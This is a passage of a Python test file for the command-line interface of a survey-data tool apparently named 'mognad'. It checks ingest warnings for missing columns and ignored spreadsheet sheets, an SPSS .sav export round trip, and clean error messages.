                                                      monkeypatch):
    f = tmp_path / "r.csv"
    wide_rows(org_id, 2024, 3).drop(columns="q05").to_csv(f, index=False)
    code, _, err = run_cli(capsys, monkeypatch, "ingest", f, "--study", fresh_study)
    assert code == 2 and "item column(s) q05 missing" in err
    code, out, err = run_cli(capsys, monkeypatch, "ingest", f, "--study", fresh_study,
                             "--allow-missing-items")
    assert code == 0 and "3 added" in out
    assert "warning: r.csv: item column(s) q05 are not in the file" in err


def test_cli_xlsx_warning_names_the_ignored_sheet(fresh_study, tmp_path, org_id, capsys,
                                                  monkeypatch):
    path = xlsx_from(wide_rows(org_id, 2024, 3), tmp_path / "svar.xlsx",
                     Bortglömt={"A1": "org_id", "A2": org_id})
    code, out, err = run_cli(capsys, monkeypatch, "ingest", path, "--study", fresh_study)
    assert code == 0 and "3 added" in out and "'Bortglömt'" in err


def test_cli_export_sav_round_trip(copy_of_small_study, tmp_path, capsys, monkeypatch):
    """``mognad export --format sav`` works and the file holds the store's answers."""
    out_file = tmp_path / "svar.sav"
    code, out, _ = run_cli(capsys, monkeypatch, "export", "--study", copy_of_small_study,
                           "--what", "responses", "--format", "sav", "--out", out_file,
                           "--round", "2024")
    assert code == 0 and "wrote" in out
    data, meta = pyreadstat.read_sav(out_file)
    resp = open_study(copy_of_small_study).responses_for(round=2024)
    long = data.melt(id_vars=["org_id", "round", "respondent_id", "unit", "role"],
                     var_name="item_id", value_name="value")
    merged = resp.merge(long, on=["org_id", "respondent_id", "item_id"], suffixes=("", "_sav"))
    assert len(merged) == len(resp)
    same = merged["value"].astype("Float64").fillna(-1).to_numpy() == \
        merged["value_sav"].fillna(-1).to_numpy()
    assert same.all()
    provenance = json.loads("".join(meta.notes))
    assert provenance["parameters"] == {"what": "responses", "round": 2024}
    assert meta.column_names_to_labels["unit"] == "Enhet"
    # a folder as --out is a clear error, not a traceback
    code, _, err = run_cli(capsys, monkeypatch, "export", "--study", copy_of_small_study,
                           "--what", "scores", "--format", "sav", "--out", tmp_path)
    assert code == 2 and "it is a folder" in err


def test_cli_real_entry_point_has_no_traceback(tmp_path):
    """The installed ``mognad`` command, as a user runs it."""
    from mognad.io.store import init_study

    init_study(tmp_path / "s")
    (tmp_path / "tom").mkdir()
    mognad = Path(sys.executable).with_name("mognad")
    cmd = [str(mognad)] if mognad.exists() else [sys.executable, "-m", "mognad.cli"]
    run = subprocess.run([*cmd, "ingest", str(tmp_path / "tom"), "--study", str(tmp_path / "s")],
                         capture_output=True, text=True)
    assert run.returncode == 2
    assert run.stderr.strip().splitlines() == [
        f"error: {tmp_path / 'tom'}: no files to ingest (looked for .csv, .txt, .tsv, .xlsx, .sav)"]

